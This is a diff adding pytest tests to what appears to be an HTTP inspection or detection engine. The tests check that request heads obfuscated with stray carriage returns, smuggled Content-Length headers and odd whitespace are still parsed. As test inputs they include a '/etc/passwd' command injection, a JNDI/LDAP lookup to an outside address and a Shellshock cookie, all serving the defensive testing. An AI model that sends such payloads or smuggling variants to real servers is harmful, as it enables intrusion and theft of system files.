@@ -111,3 +111,83 @@ def test_chunk_extensions_are_kept_no_longer_than_a_body() -> None:
         wire.client(b"1;" + b"{" * 1000 + b"\r\nx\r\n")
     wire.client(b"0\r\n\r\n").close()
     assert max(map(len, instances(wire, "http.request_body"))) < 4096 + 200
+
+
+# A carriage return that ends no line: dropped by some servers, and the end of a line to others.
+
+
+@pytest.mark.parametrize("step", [0, 1])
+def test_a_head_is_also_read_without_its_carriage_returns(step: int) -> None:
+    asked = request(
+        b"GET /p?a=;c\rat%20/e\rtc/passwd HTTP/1.0", b"User-Agent: $\r{jn\rdi:ldap://192.0.2.66/a}", b"Co\rokie: a=1"
+    )
+    wire = sent(asked + request(b"GET /next HTTP/1.1"), step)
+    assert b"/p?a=;cat /etc/passwd" in instances(wire, "http.uri")
+    assert LOOKUP in instances(wire, "http.user_agent")
+    assert b"a=1" in instances(wire, "http.cookie")
+    assert b"/next" in instances(wire, "http.uri")
+
+
+@pytest.mark.parametrize("header", [b"Con\rtent-Length: %d", b"Content-Length\r: %d", b"X: a\rContent-Length: %d"])
+@pytest.mark.parametrize("step", [0, 1])
+def test_a_length_that_only_some_servers_see_makes_a_body(header: bytes, step: int) -> None:
+    wire = sent(post(ENTITY, header % len(ENTITY)) + request(b"GET /next HTTP/1.1"), step)
+    assert ENTITY in instances(wire, "http.request_body")
+    assert any(b"/next" in found for found in instances(wire, "http.uri"))
+
+
+def test_digits_around_a_carriage_return_are_read_both_ways() -> None:
+    size = b"%d" % len(ENTITY)
+    wire = sent(post(ENTITY, b"Content-Length: " + size[:1] + b"\r" + size[1:]))
+    assert ENTITY[: int(size[:1])] in instances(wire, "http.request_body")
+    assert ENTITY in instances(wire, "http.request_body")
+
+
+def test_a_carriage_return_may_end_a_header() -> None:
+    wire = sent(request(b"GET / HTTP/1.1", b"X: a\rUser-Agent: " + LOOKUP + b"\rCookie: () { :;}; id"))
+    assert LOOKUP in instances(wire, "http.user_agent")
+    assert b"() { :;}; id" in instances(wire, "http.cookie")
+
+
+def test_another_reading_of_the_head_comes_with_the_body() -> None:
+    wire = sent(with_length(ENTITY, b"User-\rAgent: x"))
+    assert any(
+        found.buffers.get("http.user_agent") == b"x" and found.buffers.get("http.request_body") == ENTITY
+        for found in wire.all
+    )
+
+
+@pytest.mark.parametrize("step", [0, 1000])
+def test_a_head_beyond_the_limit_is_also_read_without_its_carriage_returns(step: int) -> None:
+    lines = [
+        b"X: " + b"x" * 3000,
+        b"User-Agent: $\r{jn\rdi:ldap://192.0.2.66/a}",
+        b"Con\rtent-Length: %d" % len(ENTITY),
+    ]
+    wire = Wire(header_bytes=1024).client(post(ENTITY, *lines), step=step).close()
+    assert LOOKUP in instances(wire, "http.user_agent")
+    assert ENTITY in instances(wire, "http.request_body")
+
+
+def test_a_head_with_plain_line_ends_is_read_once() -> None:
+    for end in (b"\r\n", b"\n", b"\r\r\n"):
+        wire = sent(end.join([b"POST / HTTP/1.1", b"User-Agent: x", b"Content-Length: 2", b"", b"hi"]))
+        assert len(wire.seen) == 2, "asked, and never answered"
+        assert not wire.counters["http.head_ambiguous"]
+
+
+# White space as Latin-1 text has it.
+
+
+@pytest.mark.parametrize("space", [b"\xa0", b"\x85", b"\x1c", b"\x1d", b"\x1e", b"\x1f", b"\x0b", b"\x0c"])
+@pytest.mark.parametrize("form", [b"GET%b/?x=%b%bHTTP/1.1", b"GET%b/?x=%b%b HTTP/1.1", b"GET %.0b/?x=%b%bHTTP/1.1"])
+@pytest.mark.parametrize("step", [0, 1])
+def test_any_white_space_ends_the_target(space: bytes, form: bytes, step: int) -> None:
+    wire = sent(request(form % (space, LOOKUP, space), b"Host: x"), step)
+    assert b"/?x=" + LOOKUP in instances(wire, "http.uri")
+
+
+@pytest.mark.parametrize("space", [b"\xa0", b"\x85", b"\x1f", b"\x0b"])
+def test_any_white_space_may_stand_before_a_length(space: bytes) -> None:
+    wire = sent(post(ENTITY, b"Content-Length: " + space + b"%d" % len(ENTITY)))
+    assert ENTITY in instances(wire, "http.request_body")
